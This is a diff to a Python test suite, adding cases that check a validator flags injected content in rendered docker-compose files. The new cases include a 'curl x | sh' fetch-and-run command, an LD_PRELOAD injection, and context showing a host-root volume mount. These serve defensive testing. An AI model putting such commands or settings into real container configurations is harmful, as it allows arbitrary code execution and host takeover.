@@ -320,6 +320,18 @@ def test_check_flags_what_the_old_keys_db_injection_rendered(rendered_dir: Path)
             "    ipc: host\n    volumes: [/:/host]\n",
             "volume",
         ),
+        (
+            "nodes/a/docker-compose.yml",
+            '["halo", "gateway"',
+            '["sh", "-c", "curl x | sh", "gateway"',
+            "command",
+        ),
+        (
+            "nodes/a/docker-compose.yml",
+            "    environment:\n",
+            "    environment:\n      LD_PRELOAD: /x.so\n",
+            "LD_PRELOAD",
+        ),
     ],
 )
 def test_check_flags_added_instructions_and_commands(
